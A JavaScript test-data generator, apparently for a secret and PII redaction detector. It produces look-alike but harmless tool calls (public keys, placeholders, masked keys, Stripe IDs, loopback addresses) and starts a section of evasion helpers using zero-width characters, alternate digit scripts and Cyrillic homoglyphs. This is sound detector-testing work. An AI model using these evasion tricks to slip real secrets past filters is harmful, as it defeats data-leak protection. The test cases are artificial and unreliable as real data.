  return `-----BEGIN ${label}-----\n${randStr(B64, lines * 64).match(/.{1,64}/g).join('\n')}\n-----END ${label}-----`
}
const NEAR_PUBLIC = [
  () => nm(['PRIVATE_KEY', 'GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'ssh'], args: { path: '/home/deploy/.ssh/authorized_keys', content: `${sshPublicKey()} deploy-ci\n${sshPublicKey()} laptop-ada\n` } }),
  () => nm(['PRIVATE_KEY'], { tool: 'write_file', tags: ['write_file', 'pem'], args: { path: 'certs/server.crt', content: pemPublic('CERTIFICATE', 18) + '\n' } }),
  () => nm(['PRIVATE_KEY'], { tool: 'update_settings', tags: ['json', 'pem'], args: { sso: { idp_certificate: pemPublic('CERTIFICATE', 14), verify_signatures: true } } }),
  () => nm(['PRIVATE_KEY'], { tool: 'write_file', tags: ['write_file', 'pem'], args: { path: 'keys/jwt-public.pem', content: pemPublic('PUBLIC KEY', 6) } }),
  () => nm(['PRIVATE_KEY'], { tool: 'write_file', tags: ['write_file', 'pgp'], args: { path: 'KEYS.asc', content: `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${randStr(B64, 640).match(/.{1,64}/g).join('\n')}\n=${randStr(B64, 4)}\n-----END PGP PUBLIC KEY BLOCK-----\n` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'http_request', tags: ['http', 'jwks'], args: { method: 'POST', url: 'https://auth.internal/keys', body: `{"keys":[{"kty":"RSA","kid":"k${digits(4)}","use":"sig","alg":"RS256","n":"${randStr(B64URL, 342)}","e":"AQAB"}]}` } }),
  () => nm(['PRIVATE_KEY'], { tool: 'create_issue', tags: ['create_issue', 'pem'], args: { repo: 'northwind/infra', title: 'CSR for the new domain', body: `\`\`\`\n${pemPublic('CERTIFICATE REQUEST', 16)}\n\`\`\`` } }),
  () => nm(['PRIVATE_KEY', 'GENERIC_SECRET'], { tool: 'github_add_deploy_key', tags: ['ssh'], args: { repo: 'northwind/api', title: 'ci', key: sshPublicKey(), read_only: true } }),
  () => nm(['PRIVATE_KEY'], { tool: 'write_file', tags: ['write_file', 'pem'], args: { path: 'keys/legacy.pub', content: pemPublic('RSA PUBLIC KEY', 5) } }),
  () => nm(['PRIVATE_KEY'], { tool: 'send_email', tags: ['pgp'], args: { to: 'release-announce', subject: 'v2.4.1 signed', body: `-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nv2.4.1 is out.\n-----BEGIN PGP SIGNATURE-----\n\n${randStr(B64, 300).match(/.{1,64}/g).join('\n')}\n-----END PGP SIGNATURE-----` } }),
]
const NEAR_STRIPE = [
  () => nm(['STRIPE_KEY'], { tool: 'write_file', tags: ['write_file', 'code', 'publishable'], args: { path: 'web/src/checkout.ts', content: `const stripe = Stripe('pk_live_51${randStr(ALNUM, 97)}')\n` } }),
  () => nm(['STRIPE_KEY'], { tool: 'update_settings', tags: ['json', 'publishable'], args: { stripe: { publishable_key: `pk_test_${randStr(ALNUM, 24)}`, mode: 'test' } } }),
  () => nm(['STRIPE_KEY', 'GENERIC_SECRET'], { tool: 'stripe_get_customer', tags: ['ids'], args: { customer: `cus_${randStr(ALNUM, 14)}`, expand: ['default_source'] } }),
  () => nm(['STRIPE_KEY', 'GENERIC_SECRET'], { tool: 'stripe_refund', tags: ['ids'], args: { charge: `ch_3${randStr(ALNUM, 23)}`, payment_intent: `pi_3${randStr(ALNUM, 23)}`, reason: 'duplicate' } }),
  () => nm(['STRIPE_KEY', 'GENERIC_SECRET'], { tool: 'analyze_logs', tags: ['log', 'ids'], args: { text: `${isoTime()} webhook evt_1${randStr(ALNUM, 23)} type=invoice.paid invoice=in_1${randStr(ALNUM, 23)} subscription=sub_1${randStr(ALNUM, 23)}` } }),
  () => nm(['STRIPE_KEY', 'GENERIC_SECRET'], { tool: 'stripe_create_price', tags: ['ids'], args: { product: `prod_${randStr(ALNUM, 14)}`, unit_amount: 1200, currency: 'eur', lookup_key: 'pro_monthly', connected_account: `acct_1${randStr(ALNUM, 15)}` } }),
  () => nm(['STRIPE_KEY'], { tool: 'write_file', tags: ['write_file', 'html', 'publishable'], args: { path: 'public/pay.html', content: `<form action="/charge" method="POST"><script src="https://checkout.stripe.com/checkout.js" class="stripe-button" data-key="pk_live_${randStr(ALNUM, 24)}" data-amount="999"></script></form>` } }),
  () => nm(['STRIPE_KEY', 'GENERIC_SECRET'], { tool: 'stripe_get_payment_method', tags: ['ids'], args: { payment_method: `pm_1${randStr(ALNUM, 23)}`, setup_intent: `seti_1${randStr(ALNUM, 23)}` } }),
]
const NEAR_PLACEHOLDER = [
  () => nm(['GITHUB_TOKEN'], { tool: 'write_file', tags: ['write_file', 'ci', 'placeholder'], args: { path: '.github/workflows/ci.yml', content: 'env:\n  GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n' } }),
  () => nm(['GITHUB_TOKEN'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], args: { path: 'README.md', content: 'Set a token first:\n\n```sh\nexport GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n```\n' } }),
  () => nm(['AWS_ACCESS_KEY', 'AWS_SECRET_KEY'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], note: "AWS's documented example credentials.", args: { path: 'docs/aws.md', content: '```ini\n[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n```\n' } }),
  () => nm(['SLACK_WEBHOOK'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], args: { path: 'docs/alerts.md', content: 'Paste your webhook URL, e.g. `https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX`.' } }),
  () => nm(['OPENAI_API_KEY', 'GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'env', 'placeholder'], args: { path: '.env.example', content: 'OPENAI_API_KEY=sk-...\nANTHROPIC_API_KEY=<your-anthropic-key>\nDATABASE_URL=postgres://user:password@localhost:5432/app\n' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'http_request', tags: ['http', 'header', 'placeholder'], args: { method: 'GET', url: 'https://api.northwind-traders.com/v1/me', headers: { Authorization: 'Bearer ${API_TOKEN}' } } }),
  () => nm(['GENERIC_SECRET'], { tool: 'http_request', tags: ['http', 'header', 'placeholder'], args: { method: 'GET', url: 'https://api.northwind-traders.com/v1/me', headers: { Authorization: 'Bearer <token>' } } }),
  () => nm(['GENERIC_SECRET'], { tool: 'create_user', tags: ['form', 'placeholder'], args: { username: 'svc-report', password: '********', role: 'viewer' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'update_settings', tags: ['json', 'placeholder'], args: { smtp: { host: 'smtp.internal', user: 'mailer', password: '', password_ref: 'vault:smtp/password' } } }),
  () => nm(['STRIPE_KEY'], { tool: 'write_file', tags: ['write_file', 'code', 'placeholder'], args: { path: 'src/pay.py', content: 'stripe.api_key = os.environ["STRIPE_SECRET_KEY"]  # sk_live_... in production\n' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'config', 'placeholder'], args: { path: 'config/app.yml', content: 'database:\n  password: ${DB_PASSWORD}\n  user: %DB_USER%\napi:\n  key: "{{ .Values.apiKey }}"\n' } }),
  () => nm(['SLACK_TOKEN'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], args: { path: 'docs/slack.md', content: 'Set `SLACK_BOT_TOKEN=xoxb-your-bot-token` and restart the bot.' } }),
  () => nm(['NPM_TOKEN'], { tool: 'write_file', tags: ['write_file', 'config', 'placeholder'], args: { path: '.npmrc', content: '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n' } }),
  () => nm(['EMAIL', 'CREDIT_CARD', 'GENERIC_SECRET'], { tool: 'send_email', tags: ['redacted'], note: "Warden's own markers: already redacted.", args: { to: '[REDACTED:EMAIL]', subject: 'Re: refund', body: 'Your card [MASKED:CREDIT_CARD:****1111] was refunded. Password: [REDACTED:GENERIC_SECRET]' } }),
  () => nm(['OPENAI_API_KEY'], { tool: 'create_issue', tags: ['create_issue', 'masked'], args: { repo: 'northwind/app', title: 'Which key is used?', body: 'The dashboard shows the key as sk-proj-••••••••••••Q7aB, created 2024-05-02.' } }),
  () => nm(['ANTHROPIC_API_KEY'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], args: { path: 'docs/setup.md', content: 'Your key looks like `sk-ant-api03-...`; paste it into Settings → API.' } }),
  () => nm(['GITHUB_TOKEN'], { tool: 'write_file', tags: ['write_file', 'code', 'placeholder'], args: { path: 'scripts/release.sh', content: 'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/$REPO/releases\n' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'update_settings', tags: ['json', 'placeholder'], args: { integrations: { partner: { api_key: 'REPLACE_ME', secret: 'TODO' } } } }),
  () => nm(['PRIVATE_KEY'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], args: { path: 'docs/tls.md', content: 'The file looks like this:\n\n```\n-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n```\n' } }),
  () => nm(['PRIVATE_KEY'], { tool: 'update_settings', tags: ['json', 'placeholder'], args: { github_app: { app_id: 12345, private_key: '-----BEGIN RSA PRIVATE KEY-----\n<paste your key here>\n-----END RSA PRIVATE KEY-----' } } }),
  () => nm(['GCP_API_KEY'], { tool: 'write_file', tags: ['write_file', 'docs', 'placeholder'], args: { path: 'docs/maps.md', content: 'Replace `YOUR_API_KEY` in `https://maps.googleapis.com/maps/api/js?key=YOUR_API_KEY`.' } }),
]

const NEAR_EMAIL = [
  () => nm(['EMAIL'], { tool: 'run_shell', tags: ['shell', 'git'], note: 'An SSH git remote (user@host:path), not a mailbox.', args: { command: `git remote add upstream git@github.com:northwind/${pick(['api', 'web', 'infra'])}.git && git fetch upstream` } }),
  () => nm(['EMAIL'], { tool: 'write_file', tags: ['write_file', 'code'], note: 'Retina asset names (name@2x.ext) are not email addresses.', args: { path: 'src/Logo.tsx', content: `<img src="/img/logo.png" srcSet="/img/logo@2x.png 2x, /img/logo@3x.webp 3x" alt="Northwind" />` } }),
  () => nm(['EMAIL'], { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/app.component.ts', content: `@Component({ selector: 'app-root', templateUrl: './app.component.html' })\nexport class AppComponent {\n  @Input() title = ''\n}\n` } }),
  () => nm(['EMAIL'], { tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C06DEVOPS', text: '@here deploy is done, thanks @ada and @linus.turing for the review' } }),
  () => nm(['EMAIL'], { tool: 'run_shell', tags: ['shell'], note: 'An scp target (user@host:path), not a mailbox.', args: { command: 'scp build/app.tar.gz deploy@bastion.internal:/srv/releases/' } }),
  () => nm(['EMAIL'], { tool: 'write_file', tags: ['write_file', 'css'], args: { path: 'src/styles.css', content: '@import url("theme.css");\n@media (max-width: 600px) { .nav { display: none } }\n@font-face { font-family: Inter; src: url(inter@400.woff2) }\n' } }),
  () => nm(['EMAIL'], { tool: 'run_shell', tags: ['shell'], args: { command: 'npx -y @modelcontextprotocol/server-filesystem@2026.8.31 /srv/data && brew install postgresql@16' } }),
  () => nm(['EMAIL'], { tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} INFO connected to postgres@localhost:5432 as user app (pool=10)` } }),
  () => nm(['EMAIL'], { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'app/views.py', content: "@app.route('/users/<int:user_id>')\n@login_required\ndef show(user_id):\n    return render_template('user.html')\n" } }),
  () => nm(['EMAIL'], { tool: 'create_issue', tags: ['create_issue', 'version'], args: { repo: 'northwind/web', title: 'Bump lodash', body: 'lodash@4.17.21 is flagged; upgrade to lodash@4.17.22 or drop it.' } }),
]
const NEAR_IP = [
  () => nm(['IP_ADDRESS'], { tool: 'write_file', tags: ['write_file', 'config', 'loopback'], note: 'Loopback and unspecified addresses identify no host: not labelled.', args: { path: 'config/server.yml', content: 'listen: 0.0.0.0:8080\nmetrics: 127.0.0.1:9090\nupstream: localhost:5432\n' } }),
  () => nm(['IP_ADDRESS'], { tool: 'run_shell', tags: ['shell', 'loopback'], args: { command: 'curl -s http://127.0.0.1:8080/healthz && curl -s "http://[::1]:8080/metrics"' } }),
  () => nm(['IP_ADDRESS'], { tool: 'network_configure', tags: ['infra', 'netmask'], note: 'A netmask is not a host address.', args: { interface: 'eth0', netmask: '255.255.255.0', mtu: 1500 } }),
  () => nm(['IP_ADDRESS'], { tool: 'inventory_update', tags: ['mac'], args: { device: 'printer-2f', mac: Array.from({ length: 6 }, () => randStr('0123456789ABCDEF', 2)).join(':') } }),
  () => nm(['IP_ADDRESS'], { tool: 'analyze_logs', tags: ['log', 'time'], args: { text: `12:30:45.123 main INFO ready in 1.2.3 mode (build ${int(1, 9)}.${int(0, 9)}.${int(0, 99)})` } }),
  () => nm(['IP_ADDRESS'], { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/main.cpp', content: 'int main() {\n  std::vector<int> v{1, 2, 3};\n  for (auto x : v) std::cout << x << "\\n";\n}\n' } }),
]
const NEAR_GENERIC = [
  () => nm(['GENERIC_SECRET'], { tool: 'llm_complete', tags: ['llm'], args: { model: 'claude-sonnet-4', max_tokens: int(256, 4096), temperature: 0.2, messages: [{ role: 'user', content: 'Summarise the attached meeting notes in five bullet points.' }] } }),
  () => nm(['GENERIC_SECRET'], { tool: 'send_email', tags: ['send_email'], args: { to: 'it-helpdesk', subject: 'Password reset', body: 'Hi, I forgot my password and the reset link expired. Can you send a new one? Thanks.' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'kubectl', tags: ['infra', 'yaml'], args: { command: 'apply -f -', stdin: 'env:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef:\n        name: db-credentials\n        key: password\n' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'update_settings', tags: ['json'], args: { security: { password_min_length: 12, password_policy: 'strong', require_mfa: true, session_token_ttl: 3600 } } }),
  () => nm(['GENERIC_SECRET'], { tool: 'http_request', tags: ['http'], args: { method: 'POST', url: 'https://auth.internal/oauth/introspect', body: '{"token_type_hint":"access_token","token_type":"Bearer","active":false}' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'redis_get', tags: ['kv'], args: { key: `session:${digits(6)}:profile` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'tokenize', tags: ['llm'], args: { text: 'The quick brown fox', tokens: ['The', ' quick', ' brown', ' fox'], token_count: 4, tokenizer: 'cl100k_base' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'aws_get_secret', tags: ['cloud'], args: { secret_id: `arn:aws:secretsmanager:eu-west-1:${nzDigits(12)}:secret:prod/db-${randStr(ALNUM, 6)}`, version_stage: 'AWSCURRENT' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'list_users', tags: ['json'], args: { filter: { has_password: true, password_changed_before: '2024-01-01', auth_method: 'password' } } }),
  () => nm(['GENERIC_SECRET', 'AWS_SECRET_KEY'], { tool: 'aws_list_objects', tags: ['cloud', 'pagination'], note: 'Pagination tokens are not credentials.', args: { bucket: 'northwind-logs', NextToken: randStr(B64, 120) + '==' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'gdrive_list', tags: ['pagination'], args: { q: "mimeType='application/pdf'", pageToken: `~!!~AI9FV7${randStr(B64URL, 60)}` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'update_page', tags: ['docs'], args: { page_id: uuid(), markdown: '## Secret Santa 2024\n\nDraw names on Friday; the budget is 25 EUR. Keep it a secret!' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'keyboard_shortcuts', tags: ['json'], args: { bindings: [{ key: 'Ctrl+K', command: 'search' }, { key: 'Enter', command: 'open' }] } }),
  () => nm(['GENERIC_SECRET'], { tool: 'create_issue', tags: ['create_issue'], args: { repo: 'northwind/web', title: 'Passwordless login', body: 'Support magic links so users can log in without a password. The token in the link must expire after 15 minutes.' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/auth.ts', content: "const token = req.headers.authorization?.replace('Bearer ', '')\nif (!token) throw new Unauthorized('missing token')\nconst password = await hash(input.password)\n" } }),
  () => nm(['GENERIC_SECRET'], { tool: 'vault_read', tags: ['json'], args: { path: 'secret/data/smtp', fields: ['username', 'password'], version: 3 } }),
]
const NEAR_JWT = [
  () => nm(['JWT', 'GENERIC_SECRET'], { tool: 'list_orders', tags: ['pagination'], args: { limit: 50, cursor: b64url(JSON.stringify({ after: int(1000, 99999), sort: 'created' })) } }),
  () => nm(['JWT'], { tool: 'browser_navigate', tags: ['url-query'], args: { url: `https://app.northwind-traders.com/login?state=${b64url(JSON.stringify({ returnTo: '/dashboard', nonce: randStr(HEX, 8) }))}` } }),
  () => nm(['JWT'], { tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} DEBUG grid state=${b64url(JSON.stringify({ page: int(1, 9), size: 25 }))}.${b64url(JSON.stringify({ v: 1 }))} rendered` } }),
  () => nm(['JWT'], { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/feature-flags.json', content: JSON.stringify({ encoded: b64url(JSON.stringify({ flags: ['beta', 'new-nav'] })) }) } }),
  () => nm(['JWT'], { tool: 'query', tags: ['sql'], args: { sql: `SELECT payload FROM outbox WHERE payload LIKE '${b64url('{"type":"')}%';` } }),
  () => nm(['JWT'], { tool: 'create_issue', tags: ['create_issue'], args: { repo: 'northwind/web', title: 'Dotted config keys', body: `The key ${b64url(JSON.stringify({ typ: 'cfg' }))}.${b64url(JSON.stringify({ env: 'prod' }))}.${randStr(B64URL, 10)} is not parsed: its header has no alg.` } }),
]
const NEAR_PREFIX = [
  () => nm(['AWS_ACCESS_KEY'], { tool: 'aws_describe', tags: ['cloud', 'ids'], note: 'IAM unique ids (AROA…, AIDA…) are identifiers, not access keys.', args: { role_id: `AROA${randStr(UPPER_DIGITS, 17)}`, user_id: `AIDA${randStr(UPPER_DIGITS, 17)}` } }),
  () => nm(['OPENAI_API_KEY'], { tool: 'write_file', tags: ['write_file', 'css'], args: { path: 'src/spinner.css', content: '.sk-circle { width: 40px; height: 40px }\n.sk-circle .sk-child { position: absolute }\n' } }),
  () => nm(['OPENAI_API_KEY', 'GENERIC_SECRET'], { tool: 'analyze_logs', tags: ['log', 'ids'], args: { text: `${isoTime()} openai id=chatcmpl-${randStr(ALNUM, 29)} file=file-${randStr(ALNUM, 24)} assistant=asst_${randStr(ALNUM, 24)} org=org-${randStr(ALNUM, 24)}` } }),
  () => nm(['ANTHROPIC_API_KEY', 'GENERIC_SECRET'], { tool: 'analyze_logs', tags: ['log', 'ids'], args: { text: `${isoTime()} anthropic message id=msg_01${randStr(ALNUM, 22)} tool_use=toolu_01${randStr(ALNUM, 22)} request-id=req_011${randStr(ALNUM, 21)}` } }),
  () => nm(['GITHUB_TOKEN'], { tool: 'update_page', tags: ['docs'], args: { page_id: uuid(), markdown: 'Classic tokens start with `ghp_`, fine-grained ones with `github_pat_`; both go in the `GH_TOKEN` variable.' } }),
  () => nm(['NPM_TOKEN'], { tool: 'run_shell', tags: ['shell'], args: { command: 'npm_config_registry=https://registry.npmjs.org npm_config_cache=/tmp/npm npm ci --omit=dev' } }),
  () => nm(['SLACK_TOKEN'], { tool: 'slack_post_message', tags: ['chat', 'ids'], args: { channel: 'C024BE91L', text: 'xoxo, see you at the offsite!', thread_ts: `${Math.floor(epochMs() / 1000)}.${digits(6)}`, user: `U0${randStr(UPPER_DIGITS, 8)}` } }),
  () => nm(['STRIPE_KEY'], { tool: 'create_issue', tags: ['create_issue', 'masked'], args: { repo: 'northwind/billing', title: 'Key rotation', body: `Rotated the live key (sk_live_...${randStr(ALNUM, 4)}) at ${isoTime()}; the old one is revoked.` } }),
  () => nm(['GCP_API_KEY'], { tool: 'update_page', tags: ['docs', 'masked'], args: { page_id: uuid(), markdown: 'Keys in the console look like `AIzaSy…` and must be restricted by HTTP referrer.' } }),
  () => nm(['OPENAI_API_KEY'], { tool: 'translate', tags: ['locale'], args: { text: 'Dobrý deň', source: 'sk-SK', target: 'en-US' } }),
  () => nm(['AWS_ACCESS_KEY'], { tool: 'weather_forecast', tags: ['text'], args: { location: 'Akiak, Alaska', units: 'metric', note: 'ASIA-PACIFIC regions use the other endpoint' } }),
  () => nm(['GITHUB_TOKEN', 'GENERIC_SECRET'], { tool: 'github_graphql', tags: ['ids'], args: { query: 'query($id: ID!) { node(id: $id) { ... on User { login } } }', variables: { id: `MDQ6VXNlcj${randStr(ALNUM, 6)}=` } } }),
]
const NEAR_B64 = [
  () => nm(['GENERIC_SECRET', 'AWS_SECRET_KEY'], { tool: 'write_file', tags: ['write_file', 'html', 'data-uri'], args: { path: 'public/favicon.html', content: `<link rel="icon" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ${randStr(B64, 400)}=">` } }),
  () => nm(['GENERIC_SECRET', 'AWS_SECRET_KEY'], { tool: 'kubectl', tags: ['infra', 'yaml'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: banner\nbinaryData:\n  banner.txt: ${Buffer.from('Welcome to the Northwind staging cluster. Be nice.').toString('base64')}\n` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'send_email', tags: ['attachment'], args: { to: 'reports', subject: 'Weekly report', attachments: [{ filename: 'report.csv', content_base64: Buffer.from('week,orders\n23,1204\n24,1311\n').toString('base64') }] } }),
  () => nm(['GENERIC_SECRET', 'AWS_SECRET_KEY'], { tool: 'cert_pin', tags: ['fingerprint'], args: { host: 'api.northwind-traders.com', pins: [`sha256/${randStr(B64, 43)}=`, `sha256/${randStr(B64, 43)}=`] } }),
  () => nm(['GENERIC_SECRET'], { tool: 'protobuf_decode', tags: ['base64'], args: { schema: 'orders.v1.Order', data: Buffer.from(`order:${digits(6)};items:3`).toString('base64') } }),
  () => nm(['GENERIC_SECRET', 'AWS_SECRET_KEY'], { tool: 'http_request', tags: ['http', 'header'], args: { method: 'PUT', url: 'https://storage.internal/bucket/file.bin', headers: { 'Content-MD5': `${randStr(B64, 22)}==`, 'x-amz-checksum-sha256': `${randStr(B64, 43)}=` } } }),
]
const NEAR_IBAN = [
  () => nm(['IBAN'], { tool: 'vendor_update', tags: ['finance', 'bad-checksum'], note: 'Fails the mod-97 check.', args: { vendor_id: `V-${digits(5)}`, bank: { iban: ibanBadChecksum(pick(['DE', 'FR', 'NL', 'ES'])) } } }),
  () => nm(['IBAN'], { tool: 'vendor_update', tags: ['finance', 'bic'], args: { vendor_id: `V-${digits(5)}`, bank: { bic: pick(['DEUTDEFF', 'COBADEFFXXX', 'NWBKGB2L', 'BNPAFRPP', 'INGBNL2A']), name: 'Deutsche Bank' } } }),
  () => nm(['IBAN', 'US_SSN'], { tool: 'create_invoice', tags: ['finance', 'vat'], args: { seller_vat: `DE${digits(9)}`, buyer_vat: `FR${digits(2)}${digits(9)}`, total: '1190.00' } }),
  () => nm(['IBAN'], { tool: 'send_email', tags: ['send_email', 'bad-checksum'], args: { to: 'accounts-payable', subject: 'Bank details', body: `Please use account ${formatIban(ibanBadChecksum('GB'), true)} (the number on the old letterhead is wrong, we are checking with the bank).` } }),
  () => nm(['IBAN'], { tool: 'ach_setup', tags: ['finance'], args: { sort_code: `${digits(2)}-${digits(2)}-${digits(2)}`, account_number: digits(8), bank: 'Barclays' } }),
  () => nm(['IBAN'], { tool: 'inventory_update', tags: ['sku'], args: { sku: `DE${digits(2)}${randStr(UPPER_DIGITS, 14)}`, note: 'warehouse code, not a bank account' } }),
]
const NEAR_PASSPORT = [
  () => nm(['US_PASSPORT'], { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/auth.js', content: "passport.use(new LocalStrategy(verify))\napp.post('/login', passport.authenticate('local', { failureRedirect: '/login' }))\n" } }),
  () => nm(['US_PASSPORT'], { tool: 'create_task', tags: ['todo'], args: { title: 'Passport photo', notes: 'Get 2x2 inch passport photos before the appointment on the 14th (window 3, bring form DS-82).' } }),
  () => nm(['US_PASSPORT', 'US_SSN'], { tool: 'get_order', tags: ['orders'], args: { order_number: nzDigits(9), note: 'customer will bring passport for pickup' } }),
  () => nm(['US_PASSPORT'], { tool: 'book_flight', tags: ['travel'], args: { passengers: [{ name: 'Grace Hopper', passport_expiry: '2031-04-09', passport_country: 'US' }], loyalty_number: nzDigits(9) } }),
  () => nm(['US_PASSPORT'], { tool: 'web_search', tags: ['search'], args: { query: 'passport index 2024 ranking 190 countries visa free' } }),
  () => nm(['US_PASSPORT', 'US_SSN'], { tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} INFO passport-service started pid=${int(1000, 99999)} build=${nzDigits(9)}` } }),
]

const NEGATIVE = [
  () => ({ tool: 'read_file', tags: ['filesystem'], args: { path: pick(['src/index.ts', 'README.md', 'docs/architecture.md', 'package.json']) } }),
  () => ({ tool: 'list_directory', tags: ['filesystem'], args: { path: pick(['/srv/data', 'src/components', '.']), recursive: chance(0.5) } }),
  () => ({ tool: 'web_search', tags: ['search'], args: { query: pick(['best practices for postgres connection pooling', 'how to reset a forgotten password in macOS', 'react server components caching', 'weather in Lisbon next week']) } }),
  () => ({ tool: 'get_weather', tags: ['misc'], args: { location: pick(['Berlin', 'Lagos', 'Osaka', 'Montreal']), units: 'metric', days: int(1, 7) } }),
  () => ({ tool: 'translate', tags: ['text'], args: { text: pick(['The meeting has been moved to Thursday afternoon.', 'Please review the attached proposal before Friday.']), target: pick(['de', 'fr', 'ja', 'pt-BR']) } }),
  () => ({ tool: 'calculator', tags: ['misc'], args: { expression: `${int(10, 999)} * ${int(2, 99)} / ${int(2, 9)} + ${int(1, 100)}` } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: pick(['npm test -- --run', 'ls -la src', 'git status --short', 'docker compose ps', 'kubectl get pods -n staging']) } }),
  () => ({ tool: 'create_issue', tags: ['create_issue'], args: { repo: 'northwind/web', title: 'Dark mode toggle resets on reload', body: 'Steps:\n1. Enable dark mode in settings\n2. Reload the page\n\nExpected: dark mode stays on. Actual: light mode is back.', labels: ['bug'] } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `SELECT date_trunc('day', created_at) AS day, count(*) FROM orders WHERE created_at > now() - interval '${int(7, 90)} days' GROUP BY 1 ORDER BY 1;` } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C06DEVOPS', text: pick(['deploy of web 2.4.1 finished, all green', 'standup moved to 10:15 today', 'anyone else seeing slow CI?']) } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/utils/slugify.ts', content: "export function slugify(text: string): string {\n  return text.toLowerCase().trim().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '')\n}\n" } }),
  () => ({ tool: 'http_request', tags: ['http'], args: { method: 'GET', url: `https://api.northwind-traders.com/v1/products?category=${pick(['tea', 'coffee', 'spices'])}&page=${int(1, 9)}` } }),
  () => ({ tool: 'calendar_list_events', tags: ['calendar'], args: { from: '2024-06-10', to: '2024-06-14', calendar: 'primary' } }),
  () => ({ tool: 'memory_store', tags: ['notes'], args: { key: 'preferences', content: pick(['User prefers concise answers and metric units.', 'Project uses pnpm and Vitest; avoid Jest examples.']) } }),
  () => ({ tool: 'update_page', tags: ['docs'], args: { page_id: uuid(), markdown: '## Release checklist\n\n- [ ] Changelog\n- [ ] Version bump\n- [ ] Announce in #releases' } }),
  () => ({ tool: 'summarize', tags: ['text'], args: { text: 'Quarterly revenue grew 12% on the back of strong demand in the EMEA region, while operating costs stayed flat. The board approved the hiring plan for the second half.' } }),
  () => ({ tool: 'fetch', tags: ['http'], args: { url: pick(['https://docs.python.org/3/library/json.html', 'https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers']) } }),
  () => ({ tool: 'jira_create', tags: ['ticket'], args: { project: 'PLAT', summary: 'Upgrade Node to 22 in CI', type: 'Task', priority: 'Medium' } }),
  () => ({ tool: 'kubectl', tags: ['infra'], args: { command: `scale deployment/api --replicas=${int(2, 8)} -n production` } }),
  () => ({ tool: 'send_message', tags: ['chat'], args: { user_id: `U0${randStr(UPPER_DIGITS, 8)}`, text: 'Thanks for the review, I pushed the fixes.' } }),
]

// ---------------------------------------------------------------------------------------------------------------
// Evasions: the label's value is the obfuscated text exactly as it appears.

const fullwidth = (s) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d)))
const arabicIndic = (s) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0x0660 + Number(d)))
const devanagari = (s) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0x0966 + Number(d)))
const mathBold = (s) => s.replace(/[0-9]/g, (d) => String.fromCodePoint(0x1d7ce + Number(d)))
const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad']
function zeroWidth(s, count = 3) {
  const chars = [...s]
  const positions = new Set()
  while (positions.size < Math.min(count, chars.length - 1)) positions.add(int(1, chars.length - 1))
  return chars.map((c, i) => (positions.has(i) ? pick(ZERO_WIDTH) + c : c)).join('')
}
const HOMOGLYPHS = { a: '\u0430', e: '\u0435', o: '\u043e', p: '\u0440', c: '\u0441', x: '\u0445', y: '\u0443', i: '\u0456', s: '\u0455', A: '\u0410', B: '\u0412', E: '\u0415', K: '\u041a', M: '\u041c', H: '\u041d', O: '\u041e', P: '\u0420', C: '\u0421', T: '\u0422', X: '\u0425', I: '\u0406', S: '\u0405' }
/** Swaps the characters at `indices` (or the first `count` swappable ones) for Cyrillic look-alikes. */
